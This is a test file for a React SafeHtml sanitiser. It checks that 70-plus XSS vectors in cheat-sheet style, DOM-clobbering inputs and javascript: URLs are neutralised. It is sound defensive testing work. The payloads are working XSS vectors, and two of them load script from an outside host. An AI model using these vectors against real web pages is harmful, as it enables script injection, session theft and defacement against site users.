import { fireEvent, render, screen } from '@testing-library/react';
import { MemoryRouter, Route, Routes, useLocation } from 'react-router-dom';
import { isSafeUrl, SafeHtml, sanitizeHtml } from './SafeHtml';

declare global {
  interface Window {
    __xss?: number;
  }
}

/** What every payload tries to run. */
const X = 'window.__xss=1';

/** OWASP XSS filter-evasion cheat sheet style vectors, each setting window.__xss if it ever runs. */
const VECTORS: string[] = [
  `<script>${X}</script>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>`,
  `<img src=x onerror="${X}">`,
  `<IMG SRC=x ONERROR=${X}>`,
  `<img src="javascript:${X}">`,
  `<IMG SRC=JaVaScRiPt:${X}>`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${X}>`,
  `<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${X}>`,
  `<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${X}>`,
  `<IMG SRC="jav\tascript:${X}">`,
  `<IMG SRC="jav&#x09;ascript:${X}">`,
  `<IMG SRC="jav&#x0A;ascript:${X}">`,
  `<IMG SRC=" &#14;  javascript:${X}">`,
  `<svg onload="${X}">`,
  `<svg/onload=${X}>`,
  `<svg><script>${X}</script></svg>`,
  `<body onload="${X}">`,
  `<a href="javascript:${X}">click</a>`,
  `<a href="jAvAsCrIpT:${X}">click</a>`,
  `<a href="&#106;avascript:${X}">click</a>`,
  `<a href="java&#x09;script:${X}">click</a>`,
  `<a href="  javascript:${X}">click</a>`,
  `<a href="\u0001javascript:${X}">click</a>`,
  `<a href="   &#x20;JAVASCRIPT:${X}">click</a>`,
  `<a href="javascript&colon;${X}">click</a>`,
  `<a href="javas&#99;ript:${X}">click</a>`,
  `<a href="vbscript:${X}">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">click</a>`,
  `<a href="data:text/html,<script>${X}</script>">click</a>`,
  `<a href="#" onclick="${X}">click</a>`,
  `<a href="javascript:${X}" target="_self">click</a>`,
  `<iframe src="javascript:${X}"></iframe>`,
  `<iframe srcdoc="<script>${X}</script>"></iframe>`,
  `<object data="javascript:${X}"></object>`,
  `<object type="text/x-scriptlet" data="http://xss.rocks/scriptlet.html"></object>`,
  `<embed src="javascript:${X}">`,
  `<frameset><frame src="javascript:${X}"></frameset>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${X}">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${X}">`,
  `<svg><a xlink:href="javascript:${X}"><text x="20" y="20">click</text></a></svg>`,
  `<math href="javascript:${X}">click</math>`,
  `<svg><style><img src=x onerror="${X}"></style></svg>`,
  `<svg><animate onbegin="${X}" attributeName="x" dur="1s">`,
  `<svg><set attributeName="href" to="javascript:${X}"/></svg>`,
  `<div style="background-image: url(javascript:${X})">styled</div>`,
  `<div style="width: expression(${X})">styled</div>`,
  `<DIV STYLE="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a'\\0029">x</DIV>`,
  `<style>@import 'javascript:${X}';</style>`,
  `<LINK REL="stylesheet" HREF="javascript:${X}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${X}">`,
  `<base href="javascript:${X}//">`,
  `<form action="javascript:${X}"><input type="submit"></form>`,
  `<button formaction="javascript:${X}">go</button>`,
  `<input type="image" src="javascript:${X}">`,
  `<input onfocus="${X}" autofocus>`,
  `<isindex action="javascript:${X}" type=image>`,
  `<details open ontoggle="${X}">x</details>`,
  `<video><source onerror="${X}"></video>`,
  `<audio src=x onerror="${X}">`,
  `<marquee onstart="${X}">x</marquee>`,
  `<div onmouseover="${X}">hover</div>`,
  `<a id="x" tabindex="1" onfocusin="${X}">x</a>`,
  `<img """><script>${X}</script>">`,
  `<<SCRIPT>${X}//<</SCRIPT>`,
  `<scr<script>ipt>${X}</scr</script>ipt>`,
  `<TABLE BACKGROUND="javascript:${X}"><tr><td>x</td></tr></TABLE>`,
  `<img dynsrc="javascript:${X}">`,
  `<img src="data:image/svg+xml,<svg onload=${X}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${X}>">`,
  `<template><img src=x onerror="${X}"></template>`,
  `<xss onafterscriptexecute="${X}"><script>1</script></xss>`,
  `<img src=x:x onerror="${X}">`,
];

const URL_ATTRIBUTES = ['href', 'src', 'action', 'formaction', 'xlink:href', 'data', 'background', 'dynsrc', 'to'];
const FORBIDDEN_ELEMENTS = 'script, style, iframe, frame, object, embed, form, input, button, base, meta, link, svg, math, template';
const EVENTS = ['error', 'load', 'click', 'mouseover', 'focus', 'focusin', 'toggle', 'animationstart', 'begin'];

function renderSanitised(html: string) {
  const { container } = render(<SafeHtml html={html} />);
  // Let onclick handlers run (if any survived) but keep jsdom from navigating.
  container.addEventListener('click', (event) => event.preventDefault(), true);
  return container;
}

/** Fires the events a payload could hang a handler on, on every element. */
function provoke(root: Element) {
  for (const element of Array.from(root.querySelectorAll('*'))) {
    for (const type of EVENTS) fireEvent(element, new Event(type, { bubbles: true }));
  }
}

// eslint-disable-next-line no-control-regex
const compact = (value: string) => value.replace(/[\u0000-\u0020]/g, '').toLowerCase();

beforeEach(() => {
  delete window.__xss;
});

describe('SafeHtml', () => {
  it('has at least 50 vectors to check', () => {
    expect(VECTORS.length).toBeGreaterThanOrEqual(50);
  });

  it('the harness notices a handler that runs (unsanitised control)', () => {
    const raw = document.createElement('div');
    document.body.append(raw);
    raw.innerHTML = `<img src=x onerror="${X}">`;
    provoke(raw);
    expect(window.__xss).toBe(1);
    raw.remove();
  });

  it.each(VECTORS.map((v, i) => [i + 1, v]))('neutralises vector %i: %s', (_i, vector) => {
    const container = renderSanitised(vector as string);
    provoke(container);
    expect(window.__xss).toBeUndefined();

    expect(container.querySelectorAll(FORBIDDEN_ELEMENTS)).toHaveLength(0);
    for (const element of Array.from(container.querySelectorAll('*'))) {
      for (const attribute of Array.from(element.attributes)) {
        expect(attribute.name.toLowerCase()).not.toMatch(/^on/);
        if (URL_ATTRIBUTES.includes(attribute.name.toLowerCase())) {
          expect(compact(attribute.value)).not.toMatch(/^(javascript|vbscript|data):/);
        }
        expect(attribute.name.toLowerCase()).not.toMatch(/^(style|srcdoc)$/);
      }
    }
    for (const anchor of Array.from(container.querySelectorAll('a'))) {
      expect(anchor).toHaveAttribute('rel', 'noopener noreferrer');
      if (anchor.hasAttribute('target')) expect(anchor).toHaveAttribute('target', '_blank');
    }
  });

  it('keeps ordinary HTML: bold, italic and an internal link', () => {
    const container = renderSanitised('Project <b>Alpha</b> was <i>approved</i>: <a href="/viewProjectDetails/1">view</a>');
    expect(container.querySelector('b')).toHaveTextContent('Alpha');
    expect(container.querySelector('i')).toHaveTextContent('approved');
    const link = screen.getByRole('link', { name: 'view' });
    expect(link).toHaveAttribute('href', '/viewProjectDetails/1');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('keeps http(s) and mailto links, keeps target only when it is _blank', () => {
    const container = renderSanitised(
      '<a href="https://example.com" target="_blank">a</a><a href="http://example.com" target="_top">b</a><a href="mailto:x@example.com">c</a>',
    );
    const [a, b, c] = Array.from(container.querySelectorAll('a'));
    expect(a).toHaveAttribute('href', 'https://example.com');
    expect(a).toHaveAttribute('target', '_blank');
    expect(b).toHaveAttribute('href', 'http://example.com');
    expect(b).not.toHaveAttribute('target');
    expect(c).toHaveAttribute('href', 'mailto:x@example.com');
    for (const anchor of [a, b, c]) expect(anchor).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('drops data: and other schemes from images and links', () => {
    const html = sanitizeHtml('<img src="data:image/png;base64,AAAA" alt="d"><a href="ftp://example.com">f</a><img src="/logo.png" alt="l">');
    expect(html).not.toContain('data:');
    expect(html).not.toContain('ftp:');
    expect(html).toContain('src="/logo.png"');
  });

  it('renders as the requested element with a class', () => {
    const { container } = render(<SafeHtml html="<b>x</b>" component="span" className="note" />);
    expect(container.firstElementChild?.tagName).toBe('SPAN');
    expect(container.firstElementChild).toHaveClass('note');
  });

  it('sanitises each text once: the same HTML rendered again (a row mounted again, another row) is not parsed again', () => {
    const parse = jest.spyOn(DOMParser.prototype, 'parseFromString');
    try {
      const html = 'Sanitised <b>once</b>: <a href="/viewProjectDetails/7">view</a>';
      const first = render(<SafeHtml html={html} />);
      const parsed = parse.mock.calls.length;
      expect(parsed).toBeGreaterThan(0);
      first.unmount();
      render(
        <>
          <SafeHtml html={html} />
          <SafeHtml html={html} component="span" />
        </>,
      );
      expect(screen.getAllByText('once')).toHaveLength(2);
      expect(screen.getAllByRole('link', { name: 'view' })[1]).toHaveAttribute('rel', 'noopener noreferrer');
      expect(parse.mock.calls.length).toBe(parsed);
    } finally {
      parse.mockRestore();
    }
  });

  it('follows an internal link inside the router without reloading', () => {
    function Where() {
      return <output data-testid="where">{useLocation().pathname}</output>;
    }
    render(
      <MemoryRouter initialEntries={['/']}>
        <SafeHtml html='See <a href="/viewProjectDetails/1">project</a>' />
        <Routes>
          <Route path="*" element={<Where />} />
        </Routes>
      </MemoryRouter>,
    );
    fireEvent.click(screen.getByRole('link', { name: 'project' }));
    expect(screen.getByTestId('where')).toHaveTextContent('/viewProjectDetails/1');
  });
});

describe('SafeHtml against DOM clobbering', () => {
  it('writes user-content- before every id and name, so server HTML names no property of window or document', () => {
    const container = renderSanitised(
      '<a id="config" href="/x">a</a><img name="cookie" alt="c" src="/c.png"><a name="body">b</a><p id="user-content-kept">p</p>',
    );
    expect(container.querySelector('a[href="/x"]')).toHaveAttribute('id', 'user-content-config');
    expect(container.querySelector('img')).toHaveAttribute('name', 'user-content-cookie');
    expect(container.querySelector('a[name]')).toHaveAttribute('name', 'user-content-body');
    expect(container.querySelector('p')).toHaveAttribute('id', 'user-content-kept');
    expect((window as unknown as Record<string, unknown>).config).toBeUndefined();
    expect(typeof document.cookie).toBe('string');
    expect(document.body.tagName).toBe('BODY');
  });

  it('keeps in-page links and id references pointing at the renamed elements', () => {
    const container = renderSanitised(
      '<p><a href="#faq">FAQ</a> <a href="#">top</a> <a href="#user-content-faq">again</a></p><h3 id="faq">Questions</h3>' +
        '<table><tr><th id="h">Head</th></tr><tr><td headers="h">cell</td></tr></table>' +
        '<p aria-describedby="note other">x</p><label for="f">label</label><p id="note">note</p>',
    );
    const [faq, top, again] = Array.from(container.querySelectorAll('a'));
    expect(faq).toHaveAttribute('href', '#user-content-faq');
    expect(top).toHaveAttribute('href', '#');
    expect(again).toHaveAttribute('href', '#user-content-faq');
    expect(container.querySelector(faq.getAttribute('href')!)).toHaveTextContent('Questions');
    expect(container.querySelector('td')).toHaveAttribute('headers', 'user-content-h');
    expect(container.querySelector('[aria-describedby]')).toHaveAttribute('aria-describedby', 'user-content-note user-content-other');
    expect(container.querySelector('label')).toHaveAttribute('for', 'user-content-f');
  });

  it('drops classes from server HTML, so it cannot wear the portal\u2019s styles; the default policy keeps them for the chart tooltips', () => {
    const container = renderSanitised('<div class="MuiBackdrop-root css-919eu4"><b class="x">bold</b></div>');
    expect(container.querySelector('[class]')).toBeNull();
    expect(container.querySelector('b')).toHaveTextContent('bold');
    expect(sanitizeHtml('<div class="apexcharts-tooltip-title">Jan</div>')).toBe('<div class="apexcharts-tooltip-title">Jan</div>');
  });
});

describe('isSafeUrl', () => {
  it.each([
    ['https://example.com', true],
    ['http://example.com', true],
    ['mailto:x@example.com', true],
    ['/viewProjectDetails/1', true],
    ['relative/path?a=b:c', true],
    ['#top', true],
    ['javascript:alert(1)', false],
    [' JaVa\tScRiPt:alert(1)', false],
    ['data:text/html,x', false],
    ['vbscript:x', false],
  ])('%s -> %s', (url, safe) => {
    expect(isSafeUrl(url)).toBe(safe);
  });
});
